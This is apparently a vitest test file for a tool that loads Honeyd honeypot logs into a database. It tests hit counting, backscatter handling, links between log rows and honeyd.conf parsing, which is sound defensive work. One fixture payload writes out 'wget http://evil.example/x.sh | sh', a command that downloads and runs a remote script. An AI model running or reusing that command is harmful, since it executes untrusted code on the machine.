/**
 * What the rows mean: hits only for traffic to a honeypot address; stray traffic stored and
 * never counted (a LAN's DNS replies, multicast, broadcast, the honeypots' own packets);
 * other-protocol tuples swapped back; E rows linked to their S rows; payload rows linked to
 * their connection; a script-log connection with no S line becomes the connection; a contact
 * seen in several logs counted once; honeyd.conf recorded as Profile / ProfilePort / VirtHost.
 */
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { freshDatabase, type TestDb } from '../helpers/db.ts';
import { SHARED } from '../fixtures/honeyd/lines.ts';
import { ingestJson, runCli } from './helpers/cli.ts';
import { parseHoneydConfig } from '../../honeyd2db/honeyd-config.ts';
import { appendFileSync, readFileSync, writeFileSync } from 'node:fs';
import { Batch } from '../../honeyd2db/batch.ts';
import { ConnIndex } from '../../honeyd2db/correlate.ts';
import { EventIds } from '../../honeyd2db/event-id.ts';
import { Honeypots } from '../../honeyd2db/honeypots.ts';
import { Interpreter, type FileState } from '../../honeyd2db/interpret.ts';
import { parseConnLog, parseScriptLog } from '../../honeyd2db/parse/index.ts';
import { RejectsFile } from '../../honeyd2db/rejects.ts';
import { zeroCounts } from '../../honeyd2db/summary.ts';

const CONTACT = fileURLToPath(new URL('../fixtures/ingest/contact/', import.meta.url));
let t: TestDb;
const state = () => mkdtempSync(join(tmpdir(), 'ipms-meaning-'));

beforeAll(async () => {
  t = await freshDatabase('ingest_meaning');
});
afterAll(async () => t?.close());

async function sensorId(name: string): Promise<number> {
  const [r] = await t.db.rows<{ id: number }>('SELECT id FROM Sensor WHERE name = ?', [name]);
  return Number(r!.id);
}

async function logRows(sensor: string) {
  return t.db.rows<{ id: number; kind: string; proto: string; src: string; dst: string; src_port: number | null; dst_port: number | null; start_id: number | null; raw: string }>(
    'SELECT id, kind, proto, src, dst, src_port, dst_port, start_id, raw FROM SensorLogView WHERE sensor = ? ORDER BY id',
    [sensor],
  );
}

describe('what counts as a hit', () => {
  it('registers the addresses of --honeypot-net as honeypots: never blocked, and a rule over one is dropped', async () => {
    await t.db.exec("INSERT INTO Rule (src_ip, origin) VALUES (INET6_ATON('198.18.99.7'), 'manual')");
    const r = await runCli(['--database-url', t.url, 'ingest', '--sensor', 'netted', '--tz', 'UTC', '--honeypot-net', '198.18.99.0/28',
      '--honeypot-net', '198.19.0.0/16', '--honeypot-net', '2001:db8:99::/126', '--state-dir', state(), `${SHARED}public/travisaltman-2012-honeyd-l.log`]);
    expect(r.code, r.err).toBe(0);
    expect(r.err).toMatch(/--honeypot-net 198\.19\.0\.0\/16: more than 4096 addresses, not registered as honeypots; keep them from being blocked with: ipms whitelist add 198\.19\.0\.0\/16/);
    const hosts = (await t.db.rows<{ a: string }>(
      "SELECT INET6_NTOA(v.address) AS a FROM VirtHost v JOIN Sensor s ON s.id = v.sensor_id WHERE s.name = 'netted' ORDER BY v.address")).map((x) => x.a);
    // .0 and .15 are the net's own network and broadcast addresses
    expect(hosts).toEqual(['2001:db8:99::', '2001:db8:99::1', '2001:db8:99::2', '2001:db8:99::3', ...Array.from({ length: 14 }, (_, i) => `198.18.99.${i + 1}`)]);
    expect((await t.db.rows<{ status: string }>("SELECT status FROM Rule WHERE src_ip = INET6_ATON('198.18.99.7')"))[0]!.status).toBe('dropped');
    // run with an account that may approve honeypot ranges (an admin's), it approves them
    expect((await t.db.rows<{ cidr: string }>(
      "SELECT n.cidr FROM SensorNet n JOIN Sensor s ON s.id = n.sensor_id WHERE s.name = 'netted' ORDER BY n.cidr")).map((x) => x.cidr))
      .toEqual(['198.18.99.0/28', '2001:db8:99::/126']);
    expect(r.err).not.toMatch(/approval/);
    const refused = await runCli(['--database-url', t.url, 'rules', 'add', '198.18.99.5']);
    expect([refused.code, refused.err]).toEqual([5, 'ipms: refused to block 198.18.99.5/32: protected by honeypot range 198.18.99.0/28']);
    // a second run registers nothing new
    const again = await runCli(['--database-url', t.url, 'ingest', '--sensor', 'netted', '--tz', 'UTC', '--honeypot-net', '198.18.99.0/28',
      '--state-dir', state(), `${SHARED}public/travisaltman-2012-honeyd-l.log`]);
    expect(again.code, again.err).toBe(0);
    expect((await t.db.rows<{ n: number }>("SELECT COUNT(*) AS n FROM VirtHost v JOIN Sensor s ON s.id = v.sensor_id WHERE s.name = 'netted'"))[0]!.n).toBe(18);
  });

  it('with the honeypot address given, a LAN\'s DNS and LLMNR traffic is stray and the connection to the honeypot is a hit', async () => {
    const s = await ingestJson(t.url, ['--sensor', 'travis', '--tz', 'UTC', '--honeypot-net', '192.168.134.147/32', '--state-dir', state(), `${SHARED}public/travisaltman-2012-honeyd-l.log`]);
    expect(s.honeypots_known).toBe(true);
    const rows = await logRows('travis');
    const byKind = (k: string) => rows.filter((r) => r.kind === k).map((r) => r.raw.slice(25));
    expect(byKind('start')).toEqual(['tcp(6) S 192.168.134.143 49677 192.168.134.147 135']);
    expect(byKind('end')).toEqual(['tcp(6) E 192.168.134.143 49677 192.168.134.147 135: 0 0']);
    expect(byKind('stray')).toHaveLength(8);
    expect(s.counts).toMatchObject({ hits: 1, strays: 8, ends: 1, ends_linked: 1 });
    const end = rows.find((r) => r.kind === 'end')!;
    expect(end.start_id).toBe(rows.find((r) => r.kind === 'start')!.id);
  });

  it('with no honeypot address, every unicast destination counts, says so, and still never counts a DNS reply or multicast', async () => {
    const r = await runCli(['--database-url', t.url, 'ingest', '--sensor', 'travis-all', '--tz', 'UTC', '--state-dir', state(), `${SHARED}public/travisaltman-2012-honeyd-l.log`]);
    expect(r.code).toBe(0);
    expect(r.out).toMatch(/honeypots: none given .* EVERY unicast destination was counted as a hit/);
    const rows = await logRows('travis-all');
    const stray = rows.filter((x) => x.kind === 'stray');
    // 6 LLMNR multicast packets and the DNS server's reply (from port 53 to an ephemeral port)
    expect(stray.map((x) => x.dst).filter((d) => d === '224.0.0.252')).toHaveLength(6);
    expect(stray).toHaveLength(7);
    expect(stray.find((x) => x.src === '192.168.134.2' && x.src_port === 53)).toBeDefined();
    expect(rows.filter((x) => x.src === '192.168.134.2').every((x) => x.kind === 'stray')).toBe(true);
  });

  it('a broadcast destination is never a hit, nor are answers to packets the honeypot never sent', async () => {
    await ingestJson(t.url, ['--sensor', 'haskell', '--tz', 'UTC', '--state-dir', state(), `${SHARED}public/haskell-parser-comments-2008.log`]);
    const rows = await logRows('haskell');
    expect(rows.filter((x) => x.dst === '255.255.255.255').map((x) => x.kind)).toEqual(['stray']);
    // RST without SYN and an ICMP error: backscatter, or a client's own RST after its counted SYN
    expect(rows.filter((x) => x.kind === 'stray').map((x) => x.raw.slice(25)).sort()).toEqual([
      'icmp(1) - 80.236.5.27 192.168.1.50: 3(13): 56',
      'tcp(6) - 82.154.64.174 34507 192.168.1.50 445: 40 RA',
      'tcp(6) - 82.155.122.18 61582 192.168.1.50 139: 40 R',
      'tcp(6) - 88.175.73.149 4332 192.168.1.50 139: 40 R [Windows XP SP1]',
      'udp(17) - 192.168.1.254 67 255.255.255.255 68: 298',
    ]);
    // what scanners send still counts: SYN, FIN/PSH/URG, ACK alone, SYN with RST
    expect(rows.filter((x) => x.kind === 'probe')).toHaveLength(9);
  });

  it('backscatter and spoofed non-sources never block anyone: answers the attacker made a third party send, loopback, broadcast', async () => {
    // An attacker sends SYNs, DNS queries and pings to victims with a honeypot's address as the
    // source; the victims' answers reach the honeypot. And packets from sources no host has.
    const dir = state();
    const file = join(dir, 'honeyd.log');
    const at = (i: number) => `2026-11-28-03:00:00.${String(i).padStart(4, '0')}`;
    const lines: string[] = [];
    for (let i = 0; i < 60; i++) {
      lines.push(`${at(i)} tcp(6) - 198.51.100.80 443 10.98.1.10 ${40000 + i}: 44 SA`);
      lines.push(`${at(i)} tcp(6) - 198.51.100.81 22 10.98.1.10 ${40000 + i}: 40 RA`);
      lines.push(`${at(i)} udp(17) - 192.0.2.53 53 10.98.1.11 ${50000 + i}: 120`);
      lines.push(`${at(i)} icmp(1) - 198.51.100.1 10.98.1.12: 0(0): 84`);
      lines.push(`${at(i)} icmp(1) - 198.51.100.2 10.98.1.12: 11(0): 56`);
      for (const bogus of ['127.0.0.1', '0.0.0.0', '255.255.255.255', '224.0.0.251', '240.1.2.3']) lines.push(`${at(i)} udp(17) - ${bogus} 68 10.98.1.10 ${1000 + i}: 60`);
      // and a real scan, for contrast
      lines.push(`${at(i)} tcp(6) - 203.0.113.66 ${30000 + i} 10.98.1.10 ${i + 1}: 40 S`);
    }
    writeFileSync(file, `${lines.join('\n')}\n`);
    await ingestJson(t.url, ['--sensor', 'backscatter', '--tz', 'UTC', '--honeypot-net', '10.98.1.0/24', '--state-dir', dir, file]);
    const rows = await logRows('backscatter');
    expect(rows).toHaveLength(lines.length);
    expect([...new Set(rows.filter((x) => x.kind !== 'stray').map((x) => x.src))]).toEqual(['203.0.113.66']);
    const rules = await t.db.rows<{ src: string }>('SELECT INET6_NTOA(src_ip) AS src FROM Rule');
    expect(rules.map((r) => r.src)).toContain('203.0.113.66');
    for (const victim of ['198.51.100.80', '198.51.100.81', '192.0.2.53', '198.51.100.1', '198.51.100.2', '127.0.0.1', '0.0.0.0', '224.0.0.251']) {
      expect(rules.map((r) => r.src)).not.toContain(victim);
    }
  });

  it('the hour a zone\'s clocks go back: hits of the second pass are an hour later, not in the first pass\'s windows', async () => {
    // Europe/Paris 2026-10-25: 03:00 CEST -> 02:00 CET; 30 hits at 02:30 in each pass, 50 make a rule
    const dir = state();
    const file = join(dir, 'honeyd.log');
    const at = (hm: string, i: number) => `2026-10-25-${hm}:00.${String(i).padStart(4, '0')}`;
    const hit = (hm: string, i: number) => `${at(hm, i)} tcp(6) - 203.0.113.120 ${30000 + i} 10.98.2.10 22: 40 S`;
    const lines = [
      ...Array.from({ length: 30 }, (_, i) => hit('02:30', i)),
      `${at('02:55', 0)} tcp(6) - 203.0.113.121 40000 10.98.2.10 23: 40 S`,
      ...Array.from({ length: 30 }, (_, i) => hit('02:30', i)),
    ];
    writeFileSync(file, `${lines.join('\n')}\n`);
    await ingestJson(t.url, ['--sensor', 'dst', '--tz', 'Europe/Paris', '--honeypot-net', '10.98.2.0/24', '--state-dir', dir, file]);
    const times = await t.db.rows<{ hms: string; n: number }>(
      "SELECT DATE_FORMAT(l.ts, '%H:%i:%s') AS hms, COUNT(*) AS n FROM SensorLog l JOIN Sensor s ON s.id = l.sensor_id WHERE s.name = 'dst' AND l.src_ip = INET6_ATON('203.0.113.120') GROUP BY hms ORDER BY hms");
    expect(times.map((r) => [r.hms, Number(r.n)])).toEqual([['00:30:00', 30], ['01:30:00', 30]]);
    expect(await t.db.rows("SELECT id FROM Rule WHERE src_ip = INET6_ATON('203.0.113.120')")).toEqual([]);
  });

  it('with no honeypot address known, other-protocol lines are not counted: which way they went cannot be told', async () => {
    const dir = state();
    const file = join(dir, 'honeyd.log');
    writeFileSync(file, `${Array.from({ length: 60 }, (_, i) => `2026-11-28-04:00:00.${String(i).padStart(4, '0')} gre(47) - 10.77.1.10 203.0.113.9: 20`).join('\n')}\n`);
    await ingestJson(t.url, ['--sensor', 'nohp', '--tz', 'UTC', '--state-dir', dir, file]);
    expect([...new Set((await logRows('nohp')).map((x) => x.kind))]).toEqual(['stray']);
  });

  it('other-protocol lines printed from the honeypot are swapped back; the honeypots\' own traffic is stray', async () => {
    await ingestJson(t.url, ['--sensor', 'swap', '--tz', 'UTC', '--honeyd-config', `${CONTACT}honeyd.conf`, '--state-dir', state(), `${CONTACT}honeyd.log`]);
    const rows = await logRows('swap');
    const other = rows.filter((x) => x.proto === 'gre' || x.proto === 'sctp');
    expect(other.map((x) => [x.proto, x.src, x.dst, x.kind])).toEqual([
      ['gre', '10.99.0.2', '10.99.1.10', 'probe'],
      ['sctp', '10.99.0.2', '10.99.1.10', 'probe'],
    ]);
    // (the one stray: an ICMP port unreachable, an answer)
    expect(rows.filter((x) => x.kind === 'stray').map((x) => x.raw.slice(25))).toEqual(['icmp(1) - 10.99.0.2 10.99.1.10: 3(3): 62']);
  });
});

describe('payload links an attacker cannot steer', () => {
  it('a refused line ends a -d chunk: the lines after it link to no connection, not to the chunk before', async () => {
    const dir = state();
    writeFileSync(join(dir, 'honeyd.log'), '2026-11-28-02:28:59.8097 tcp(6) S 10.99.0.2 45546 10.99.1.10 80\n');
    writeFileSync(join(dir, 'stderr.txt'), [
      'honeyd[20401]: E(10.99.0.2:45546 - 10.99.1.10:80): first', 'second',
      'honeyd[20401]: E(999.0.0.1:1 - 10.99.1.10:80): refused', 'wget http://evil.example/x.sh | sh', '',
    ].join('\n'));
    await ingestJson(t.url, ['--sensor', 'chunks', '--tz', 'UTC', '--honeypot-net', '10.99.1.10/32', '--state-dir', dir,
      join(dir, 'honeyd.log'), join(dir, 'stderr.txt')]);
    const data = await t.db.rows<{ payload: string; src: string | null }>(
      'SELECT d.payload, l.src FROM DataView d LEFT JOIN SensorLogView l ON l.id = d.sensorlog_id WHERE d.sensor = ? ORDER BY d.id', ['chunks']);
    expect(data).toEqual([
      { payload: 'first', src: '10.99.0.2' },
      { payload: 'second', src: '10.99.0.2' },
      { payload: 'wget http://evil.example/x.sh | sh', src: null },
    ]);
  });
});

describe('links and counting across the logs of one sensor', () => {
  it('links E to S, payloads to their connection, script lines through their pid, and counts each contact once', async () => {
    const dir = state();
    const args = ['--sensor', 'contact', '--tz', 'UTC', '--honeyd-config', `${CONTACT}honeyd.conf`, '--honeypot-net', '192.168.2.1/32', '--state-dir', dir];
    // payload files named first: the connection log is read first all the same
    const s = await ingestJson(t.url, [...args, `${CONTACT}mydoom.log`, `${CONTACT}service.log`, `${CONTACT}honeyd-stderr.txt`, `${CONTACT}honeyd.log`]);
    expect(s.files.map((f) => f.format)).toEqual(['honeyd-log', 'service-log', 'syslog', 'script-log']);
    const rows = await logRows('contact');
    const s45546 = rows.find((r) => r.raw.endsWith('S 10.99.0.2 45546 10.99.1.10 80'))!;
    const s53126 = rows.find((r) => r.raw.endsWith('S 10.99.0.2 53126 10.99.1.10 3127'))!;
    const u49363 = rows.find((r) => r.raw.endsWith('udp(17) S 10.99.0.2 49363 10.99.1.10 53'))!;
    expect(rows.find((r) => r.raw.includes('E 10.99.0.2 45546'))!.start_id).toBe(s45546.id);
    expect(rows.find((r) => r.raw.includes('E 10.99.0.2 49363'))!.start_id).toBe(u49363.id);

    const data = await t.db.rows<{ sensorlog_id: number | null; source: string; payload: string; script: string | null; pid: number | null }>(
      'SELECT d.sensorlog_id, d.source, d.payload, d.script, d.pid FROM DataView d WHERE d.sensor = ? ORDER BY d.id',
      ['contact'],
    );
    const linkOf = (p: string) => data.find((d) => d.payload === p)!.sensorlog_id;
    expect(linkOf('connection from 10.99.0.2:45546 to 10.99.1.10:80')).toBe(s45546.id);
    expect(linkOf('no-trailing-newline')).toBe(s45546.id); // the -s piece, and the -d stderr continuation line
    expect(data.filter((d) => d.sensorlog_id === s45546.id && d.source === 'syslog').map((d) => d.payload)).toEqual([
      'multi-line-a', 'multi-line-b', 'no-trailing-newline',
    ]);
    expect(linkOf('payload[1] (20 bytes): query 1 line1\\nline2\\n')).toBe(u49363.id);
    expect(linkOf('Attempted login: admin1/secret1')).toBeNull(); // its S line is not in these logs

    // mydoom.pl saw 10.99.0.2:53126 too: linked to the S row, not a second connection
    expect(linkOf('connection from 10.99.0.2:53126 to 10.99.1.10:3127')).toBe(s53126.id);
    expect(linkOf('socks4 command code: 01')).toBe(s53126.id);
    // the paper's line has no S line anywhere: it became the connection, a hit on 192.168.2.1
    const paper = rows.find((r) => r.raw.includes('mydoom.pl[31476]'))!;
    expect(paper).toMatchObject({ kind: 'start', proto: 'tcp', src: '217.159.217.218', src_port: 45771, dst: '192.168.2.1', dst_port: 1080 });
    expect(linkOf('connection from 217.159.217.218:45771 to 192.168.2.1:1080')).toBe(paper.id);
    expect(s.counts.script_connections).toBe(1);
    const starts = rows.filter((r) => r.kind === 'start');
    expect(starts).toHaveLength(5); // 4 S lines to honeypots + the paper's connection
    expect(s.counts.hits).toBe(rows.filter((r) => r.kind === 'start' || r.kind === 'probe').length);
    expect(s.counts.payloads).toBe(data.length);

    // counted once, whatever the order of the runs: the script log alone, again, adds nothing
    const again = await ingestJson(t.url, [...args, '--from-start', `${CONTACT}mydoom.log`, `${CONTACT}honeyd.log`]);
    expect(again.counts.inserted).toBe(0);
    expect((await logRows('contact')).length).toBe(rows.length);
  });

  it('a -s file with only start/stop markers so far is read as -s once its first real line comes', async () => {
    const dir = state();
    const f = join(dir, 'honeyd.status');
    writeFileSync(f, readFileSync(`${SHARED}public/honeyd-docker-honeyd.status`));
    const a = await ingestJson(t.url, ['--sensor', 'markers', '--tz', 'UTC', '--state-dir', dir, f]);
    expect(a.files[0]!.format).toBe('markers-only');
    appendFileSync(f, '2024-08-05-09:38:41.0000 tcp(6) 10.99.0.2 46004 10.99.1.10 22: |Attempted login: root/root|\n');
    const b = await ingestJson(t.url, ['--sensor', 'markers', '--tz', 'UTC', '--state-dir', dir, f]);
    expect(b.files[0]!.format).toBe('service-log');
    expect(b.counts).toMatchObject({ lines: 1, payloads: 1, rejected: 0 });
    // and the database's mark knows it too (it wins over the local one when it answers)
    expect(await t.db.rows(`SELECT c.format FROM IngestCheckpoint c JOIN Sensor s ON s.id = c.sensor_id WHERE s.name = 'markers'`))
      .toEqual([{ format: 'service-log' }]);
  });

  it('after a restart, an E line links to the S line read by the earlier run', async () => {
    const dir = state();
    const f = join(dir, 'restart.log');
    const lines = readFileSync(`${CONTACT}honeyd.log`, 'utf8').split('\n');
    const cut = lines.findIndex((l) => l.includes(' E '));
    writeFileSync(f, `${lines.slice(0, cut).join('\n')}\n`);
    await ingestJson(t.url, ['--sensor', 'restart', '--tz', 'UTC', '--state-dir', dir, f]);
    appendFileSync(f, `${lines.slice(cut).join('\n')}`);
    const s = await ingestJson(t.url, ['--sensor', 'restart', '--tz', 'UTC', '--state-dir', dir, f]);
    expect(s.counts).toMatchObject({ ends: 2, ends_linked: 2 });
    const rows = await logRows('restart');
    const end = rows.find((r) => r.raw.includes('E 10.99.0.2 45546'))!;
    expect(end.start_id).toBe(rows.find((r) => r.raw.endsWith('S 10.99.0.2 45546 10.99.1.10 80'))!.id);
  });

  it('under --follow, a script line read before the S line of its connection waits one round for it', () => {
    const counts = zeroCounts();
    const now = Date.parse('2026-11-28T02:33:23.500Z');
    const interp = new Interpreter({
      honeypots: new Honeypots([], ['10.99.1.0/24']), index: new ConnIndex(), ctx: { tz: 'UTC' }, counts,
      rejects: new RejectsFile('/dev/null', 't'), now: () => now,
    });
    interp.waitForConnLog = true;
    const file = (name: string, parse: FileState['parse']): FileState => ({
      path: name, parse, ids: new EventIds('t', Buffer.from(name)), lineNo: 0, rejected: 0, chunkLink: null, inChunk: false, deferredAt: -1, canWait: true,
    });
    const conn = file('honeyd.log', parseConnLog);
    const script = file('mydoom.log', parseScriptLog);
    const batch = new Batch();
    const mydoom = '2026-11-28 02:33:23 +0000: mydoom.pl[23351]: connection from 10.99.0.2:53126 to 10.99.1.10:3127';
    const sLine = '2026-11-28-02:33:23.0142 tcp(6) S 10.99.0.2 53126 10.99.1.10 3127';
    expect(interp.line(script, { text: mydoom, offset: 0, end: 100 }, batch)).toBe(false); // not yet
    expect(interp.line(conn, { text: sLine, offset: 0, end: 66 }, batch)).toBe(true);
    expect(interp.line(script, { text: mydoom, offset: 0, end: 100 }, batch)).toBe(true);
    expect(counts).toMatchObject({ hits: 1, scriptConnections: 0, payloadsLinked: 1 });
    expect(batch.data[0]![6]).toEqual(conn.ids.at(0)); // linked to the S row's event id
    // with no S line after one round, the script's line becomes the connection
    const other = mydoom.replace('53126', '53127');
    expect(interp.line(script, { text: other, offset: 100, end: 200 }, batch)).toBe(false);
    expect(interp.line(script, { text: other, offset: 100, end: 200 }, batch)).toBe(true);
    expect(counts).toMatchObject({ hits: 2, scriptConnections: 1 });
  });

  it('honeyd.conf fills Profile, ProfilePort and VirtHost, and its bound addresses are the honeypots', async () => {
    const cfg = parseHoneydConfig(readFileSync(`${CONTACT}honeyd.conf`, 'utf8'));
    expect(cfg.binds).toEqual([
      { address: '10.99.1.10', template: 'linux' },
      { address: '10.99.1.11', template: 'windows' },
    ]);
    const id = await sensorId('swap');
    const vh = await t.db.rows<{ address: string; profile: string }>('SELECT address, profile FROM VirtHostView WHERE sensor_id = ? ORDER BY address', [id]);
    expect(vh).toEqual([
      { address: '10.99.1.10', profile: 'linux' },
      { address: '10.99.1.11', profile: 'windows' },
    ]);
    const profiles = await t.db.rows<{ name: string; personality: string | null; default_tcp_action: string | null; uptime: number | null; ethernet: string | null }>(
      'SELECT name, personality, default_tcp_action, uptime, ethernet FROM Profile WHERE sensor_id = ? ORDER BY name',
      [id],
    );
    expect(profiles).toEqual([
      { name: 'default', personality: null, default_tcp_action: 'block', uptime: null, ethernet: null },
      { name: 'linux', personality: 'Linux 2.4.20', default_tcp_action: null, uptime: null, ethernet: null },
      { name: 'windows', personality: 'Microsoft Windows XP Professional SP1', default_tcp_action: 'reset', uptime: 1728000, ethernet: '00:0c:29:11:1e:53' },
    ]);
    const ports = await t.db.rows<{ name: string; proto: string; port: number; action: string }>(
      'SELECT p.name, pp.proto, pp.port, pp.action FROM ProfilePort pp JOIN Profile p ON p.id = pp.profile_id WHERE p.sensor_id = ? ORDER BY p.name, pp.proto, pp.port',
      [id],
    );
    expect(ports).toContainEqual({ name: 'linux', proto: 'tcp', port: 22, action: 'sh scripts/ssh.sh $ipsrc $dport' });
    expect(ports).toContainEqual({ name: 'windows', proto: 'udp', port: 53, action: 'perl scripts/dns.pl' });
    expect(ports).toHaveLength(6);
    // the honeypots' addresses are protected: never the source of a rule
    const prot = await t.db.rows<{ what: string }>("SELECT what FROM ProtectedRange WHERE reason = 'honeypot' AND what LIKE 'swap %' ORDER BY what");
    expect(prot.map((p) => p.what)).toEqual(['swap 10.99.1.10', 'swap 10.99.1.11']);
  });

  it('a bound address changed after its bind becomes a profile of its own', () => {
    const cfg = parseHoneydConfig('create base\nadd base tcp port 80 open\nbind 10.0.0.5 base\nadd 10.0.0.5 tcp port 22 open\nbind 10.0.0.6 base\n');
    expect(cfg.binds).toEqual([
      { address: '10.0.0.5', template: '10.0.0.5' },
      { address: '10.0.0.6', template: 'base' },
    ]);
    expect([...cfg.templates.keys()]).toEqual(['base', '10.0.0.5']);
    expect(cfg.templates.get('10.0.0.5')!.ports.map((p) => p.port)).toEqual([80, 22]);
    expect(() => parseHoneydConfig('bind 10.0.0.300 base\n', 'x.conf')).toThrow(/x.conf:1/);
  });
});
